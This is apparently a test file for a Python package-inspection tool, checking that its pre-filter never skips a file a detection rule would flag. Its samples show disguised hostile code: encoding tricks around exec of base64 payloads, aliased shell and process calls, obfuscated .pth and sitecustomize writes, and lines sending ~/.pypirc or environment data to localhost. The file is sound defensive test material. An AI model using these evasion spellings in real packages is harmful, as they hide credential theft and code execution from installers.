"""The parse is skipped only where it could not give a finding: with the pre-filter on, every
file gives exactly the findings it gives with every file parsed (``prefilter=False``).

Attacks on the pre-filter itself first (a rule's name or string spelled so that a plain text
search misses it), then the real wheels of the dev wheelhouse and generated sources.
"""

from __future__ import annotations

import base64
import importlib.util
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from safeinstall.inspect.code import inspect_source
from safeinstall.inspect.names import may_hit
from safeinstall.inspect.text import BLOB_CHARS, may_hold_blob
from tests.inspect.hostile import BLOB, PAYLOAD, wheel
from tests.inspect.test_rules import scan
from tests.support.paths import WHEELHOUSE

DECODED = f"base64.b64decode('{PAYLOAD}')"
_FILLER = "".join(f"def f{i}(x):\n    return x + {i}\n\n" for i in range(400))  # > 8 KiB

# what the parser reads -> how the attacker writes it, and the rule it must still hit
DISGUISED: dict[str, tuple[bytes, str]] = {
    "utf-7 source spelling exec without its letters": (
        f"# coding: utf-7\nimport base64\nexec({DECODED})\n".encode("utf-7").replace(
            b"exec", b"+AGU-xec"
        ),
        "code-exec-decoded",
    ),
    "full-width exec, read as exec": (
        f"import base64\n\uff45\uff58\uff45\uff43({DECODED})\n".encode(),
        "code-exec-decoded",
    ),
    "subprocess under another name": (
        b"import subprocess as sp\nsp.run(['id'])\n",
        "code-import-time-call",
    ),
    "os.system imported under another name": (
        b"from os import system as s\ns('id')\n",
        "code-import-time-call",
    ),
    "an os.exec* function": (b"import os\nos.execv('/bin/sh', ['sh'])\n", "code-import-time-call"),
    "os under another name": (b"import os as o\no.system('id')\n", "code-import-time-call"),
    "os.system with brackets, a comment and a line continued between": (
        b"import os\n(os  # innocent\n ) . \\\n  system('id')\n",
        "code-import-time-call",
    ),
    "full-width os.system": (
        "import os\n\uff4f\uff53.\uff53\uff59\uff53\uff54\uff45\uff4d('id')\n".encode(),
        "code-import-time-call",
    ),
    "system imported from os in a bracketed list, a line continued before import": (
        b"from os \\\n import (\n    path,\n    system,\n)\nsystem('id')\n",
        "code-import-time-call",
    ),
    "urlopen through its module imported from urllib": (
        b"from urllib import request\nrequest.urlopen('http://127.0.0.1/')\n",
        "code-import-time-call",
    ),
    "socket.socket under another name": (
        b"import socket as s\ns.socket()\n",
        "code-import-time-call",
    ),
    "os.exec* through a bracketed os": (
        b"import os\n(os).execvp('sh', [])\n",
        "code-import-time-call",
    ),
    "exec through builtins": (
        f"import builtins, base64\nbuiltins.exec({DECODED})\n".encode(),
        "code-exec-decoded",
    ),
    "exec imported from builtins under another name": (
        f"from builtins import exec as run\nimport base64\nrun({DECODED})\n".encode(),
        "code-exec-decoded",
    ),
    "exec on the line after one ending in a dot": (
        f"import base64\nx = 2.\nexec({DECODED})\n".encode(),
        "code-exec-decoded",
    ),
    "a sitecustomize name with a named escape": (
        b"def f(d):\n    open(d + '/sitecusto\\N{LATIN SMALL LETTER M}ize.py', 'w').write('x')\n",
        "code-startup-write",
    ),
    "a .pth name with an octal escape": (
        b"def f(d):\n    open(d + '/x\\056pth', 'w').write('import os')\n",
        "code-startup-write",
    ),
    "a .pth name spelled with an escape": (
        b"def f(d):\n    open(d + '/x\\x2epth', 'w').write('import os')\n",
        "code-startup-write",
    ),
    "a .pth name split over joined literals, a comment between": (
        b"def f(d):\n    open(d + ('/x.p'  # innocent\n   'th'), 'w').write('import os')\n",
        "code-startup-write",
    ),
    "a sitecustomize name split at a line's end": (
        b"def f(d):\n    open(d + '/sitecusto\\\nmize.py', 'w').write('import os')\n",
        "code-startup-write",
    ),
    "a .pth name's end in a triple-quoted literal after a comment": (
        b"def f(d):\n    open(d + ('/x.p'  # innocent\n   r\"\"\"th\"\"\"), 'w').write('x')\n",
        "code-startup-write",
    ),
    "a .pth name split over joined f-strings": (
        b"def f(d, n):\n    open(f'{d}/.p' f'th{n}', 'w').write('import os')\n",
        "code-startup-write",
    ),
    "a usercustomize name through pathlib": (
        b"from pathlib import Path\nPath('u' 'sercustomize.py').write_text('import os')\n",
        "code-startup-write",
    ),
    "a blob in a file with no other rule's name": (
        f"{_FILLER}DATA = '{BLOB}'\n".encode(),
        "code-encoded-blob",
    ),
    "a blob split over joined literals with comments between": (
        (
            "DATA = (\n"
            + "".join(
                f"    {'R' if i % 2 else ''}'{BLOB[i : i + 64]}'  # part {i}: (see, notes).\n"
                for i in range(0, len(BLOB), 64)
            )
            + ")\n"
        ).encode(),
        "code-encoded-blob",
    ),
    "a blob written as escapes": (
        ("DATA = '" + "".join(f"\\x{ord(c):02x}" for c in BLOB) + "'\n").encode(),
        "code-encoded-blob",
    ),
    "a blob of named escapes, continued at each line's end": (
        (
            "DATA = '"
            + "\\\n".join(
                "".join("\\N{DIGIT ONE}" if c == "1" else c for c in BLOB[i : i + 70])
                for i in range(0, len(BLOB), 70)
            )
            + "'\n"
        ).encode(),
        "code-encoded-blob",
    ),
}


@pytest.mark.parametrize("case", sorted(DISGUISED))
def test_a_disguised_name_still_has_its_file_parsed(case: str) -> None:
    source, rule = DISGUISED[case]
    hits = inspect_source(source, "pkg/m.py")
    assert rule in [r for r, _, _ in hits], hits
    assert hits == inspect_source(source, "pkg/m.py", prefilter=False)


def test_a_disguised_file_is_caught_in_a_real_wheel(tmp_path: Path) -> None:
    source, rule = DISGUISED["utf-7 source spelling exec without its letters"]
    report = scan([wheel(tmp_path, "evil-pkg", {"evil_pkg/__init__.py": source})])
    assert [f.rule for f in report.findings] == [rule]


def test_files_that_cannot_hit_are_not_parsed() -> None:
    """The point of the pre-filter: the usual module, with ``re.compile``, ``open`` for
    reading, ``empty``, ``valid_id`` and a big docstring, is not parsed."""
    source = (
        '"""A module.\n\n' + "Some prose, (with) punctuation.\n" * 400 + '"""\nimport re\n'
        "PATTERN = re.compile('x')\n\ndef read(p, valid_id, empty=()):\n"
        "    with open(p) as f:\n        return f.read(), '.py', 'site'\n"
    )
    assert len(source) > BLOB_CHARS
    assert not may_hit(source) and not may_hold_blob(source)


# spellings the AST rules do not resolve either (a static read cannot): the filter may skip them
UNRESOLVED = {
    "a name built at run time": "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
    "a star import": "from os import *\nsystem('id')\n",
    "__import__": "__import__('os').system('id')\n",
    "os bound to another name": "import os\nrun = os\nrun.system('id')\n",
}


@pytest.mark.parametrize("case", sorted(UNRESOLVED))
def test_a_spelling_the_rules_do_not_resolve_gives_the_same_findings(case: str) -> None:
    data = UNRESOLVED[case].encode()
    assert inspect_source(data, "pkg/m.py") == inspect_source(data, "pkg/m.py", prefilter=False)


def test_a_name_of_a_call_written_on_another_module_is_not_parsed() -> None:
    """Attribute-aware: ``platform.system()`` and ``sys.executable`` beside ``import os``, a
    socket's other functions, ``os.path``, are no process or network call."""
    source = (
        "import os, platform, socket, sys, re, base64\nimport os.path as system\n"
        "NAME = platform.system(), sys.executable, socket.gethostname(), os.path.join('a')\n"
        "WORD = re.compile('[\\x00-\\x1f]'), b'eA=='.decode(), base64.b64decode(b'eA==')\n"
        "with open('out', 'w') as f:\n    f.write('\\t\\u00e9\\N{BULLET}')\n"
        "FORMATS = {'e': 1, 'h': 2, 'th': 3}\n"
        "def run(call, get, post):\n    return call(get, post)\n"
    )
    assert not may_hit(source)
    assert may_hit(source + "os.system('id')\n")
    assert may_hit(source + "os.execv('/bin/sh', [])\n")
    assert may_hit(source + "exec(base64.b64decode(b'eA=='))\n")
    assert may_hit(source + "open('x\\x2epth', 'w')\n")


def test_a_comment_of_hashes_does_not_make_the_filter_backtrack() -> None:
    """A comment can be read as one or as many (``# # #``): the filter's patterns take each
    comment whole, so a file of such comments is read in linear time, not exponential."""
    hashes = "#" * 200
    source = f"import os\nos{hashes}\nsystem = open\nx = 'a' {hashes}\n"
    started = time.perf_counter()
    assert not may_hit(source)
    assert time.perf_counter() - started < 1


def _wheelhouse_sources() -> list[tuple[str, bytes]]:
    """The .py members of the dev wheelhouse's wheels."""
    out = []
    for path in sorted(WHEELHOUSE.glob("*.whl")):
        with zipfile.ZipFile(path) as archive:
            out += [
                (f"{path.name}/{name}", archive.read(name))
                for name in archive.namelist()
                if name.endswith(".py")
            ]
    return out


def test_real_wheels_give_the_same_findings_with_the_filter() -> None:
    """Every module of the wheelhouse the filter lets skip its parse: parsed anyway, it gives
    nothing more. (The modules it parses go through the same code either way.)"""
    sources = _wheelhouse_sources()
    if not sources:
        pytest.skip(f"no wheels in {WHEELHOUSE}")
    skipped = [(n, d) for n, d in sources if _skipped(d)]
    assert len(skipped) > len(sources) // 2  # the filter does skip most files
    for name, data in skipped[::2]:  # half of them: the test stays within seconds
        assert inspect_source(data, name) == inspect_source(data, name, prefilter=False), name


def _skipped(data: bytes) -> bool:
    try:
        text = importlib.util.decode_source(data)
    except (SyntaxError, ValueError, LookupError):  # reported without a parse either way
        return False
    return not may_hit(text) and not may_hold_blob(text)


_STATEMENTS = st.sampled_from(
    [
        "import subprocess as sp",
        "from subprocess import run",
        "import os",
        "from os import system as s, execv",
        "import base64, zlib, marshal, codecs",
        "from base64 import b64decode as d",
        "import urllib.request",
        "from urllib.request import urlopen",
        "import requests",
        "import socket",
        "from pathlib import Path",
        "import shutil",
        "x = 1",
        "empty = valid_id = pty_mode = 0",
        f"code = {DECODED}",
        f"code = zlib.decompress({DECODED})",
        "code = marshal.loads(b'')",
        "code = codecs.decode('x', 'rot13')",
        "code = data.decode('hex')",
        "exec(code)",
        "eval(code)",
        "compile(code, 'f', 'exec')",
        "exec(d('eA=='))",
        "sp.run(['id'])",
        "run(['id'])",
        "s('id')",
        "os.system('id')",
        "os.execv('/bin/sh', [])",
        "execv('/bin/sh', [])",
        "urlopen('http://127.0.0.1/')",
        "urllib.request.urlopen('http://127.0.0.1/', data=str(os.environ))",
        "requests.post('http://127.0.0.1/', data=open('~/.pypirc').read())",
        "requests.get(os.environ['API_TOKEN'])",
        "socket.socket()",
        "import os as o",
        "import re",
        "x = re.compile('a').decode('hex')",
        "y = 2.",
        "name = '\\N{LATIN SMALL LETTER P}th'",
        "name = 'x\\056pth'",
        "name = 'x\\x00\\t'",
        "letter = 'e'",
        "name = 'sitecustomiz' 'e'",
        "name = ('x.pt'  # joined\n    'h')",
        "import platform",
        "o.system('id')",
        "(os).system('id')",
        "platform.system()",
        "x = sys.executable",
        "from urllib import request",
        "request.urlopen('http://127.0.0.1/')",
        "from os import *",
        "system('id')",
        "getattr(os, 'sys' + 'tem')('id')",
        "import socket as sk",
        "sk.socket()",
        "open(p, 'w').write(x)",
        "open(p + '/x.pth', 'w')",
        "Path(p).write_text('x')",
        "shutil.copy(a, 'sitecustomize.py')",
        "name = 'x.p' 'th'",
        "name = 'site' 'customize'",
        "name = 'user\\x63ustomize'",
        "name = f'{p}/.p' f'th{q}'",
        "os.getenv('SECRET_KEY')",
        "os.environ.get('PASSWORD')",
        "path = '~/.ssh/id_rsa'",
        f"blob = '{BLOB[:9000]}'",
        "blob = ('" + "' '".join(BLOB[i : i + 80] for i in range(0, 9000, 80)) + "')",
        "# exec subprocess .pth",
        "'''eval(decoded) socket.socket()'''",
    ]
)
_BLOCKS = st.sampled_from(
    ["", "def f():\n", "class C:\n", "if __name__ == '__main__':\n", "if True:\n"]
)


@st.composite
def _sources(draw: st.DrawFn) -> str:
    lines = []
    for _ in range(draw(st.integers(1, 8))):
        block = draw(_BLOCKS)
        body = draw(st.lists(_STATEMENTS, min_size=1, max_size=3))
        indent = "    " if block else ""
        lines.append(block + "".join(f"{indent}{s}\n" for s in [*body, "pass"]))
    return "".join(lines)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_sources(), st.booleans(), st.booleans())
def test_generated_sources_give_the_same_findings(source: str, setup: bool, module: bool) -> None:
    data = source.encode()
    assert inspect_source(data, "setup.py", setup=setup, module=module) == inspect_source(
        data, "setup.py", setup=setup, module=module, prefilter=False
    )


def test_a_blob_needs_one_long_stretch_of_literal_characters() -> None:
    """The blob test's bound: a literal reported as a blob lies in a stretch of at least
    ``BLOB_CHARS`` characters, and prose or code breaks such a stretch."""
    assert may_hold_blob(f"X = '{BLOB}'\n")
    assert not may_hold_blob("print(1, 2)\n" * 2000)
    # comments count for nothing: a long one (a licence, a table) is not a blob's stretch
    assert not may_hold_blob("x = 1  # " + "see the licence " * 1000 + "\nprint(x)\n")
    assert base64.b64decode(BLOB)  # the sample is real base64


def test_a_file_that_does_not_parse_is_uninspectable_when_a_rule_could_hit_it() -> None:
    """The one difference the filter makes: a file with no rule's name in it is not parsed, so
    if it would not parse it is not reported (it could not hit a rule under any parse, as
    before for small files); one with a rule's name is parsed and reported."""
    harmless = b"def f(:\n    return 1\n"
    assert inspect_source(harmless, "m.py") == []
    assert [r for r, _, _ in inspect_source(harmless, "m.py", prefilter=False)] == [
        "code-uninspectable"
    ]
    suspect = b"import subprocess\ndef f(:\n    subprocess.run(['id'])\n"
    assert [r for r, _, _ in inspect_source(suspect, "m.py")] == ["code-uninspectable"]
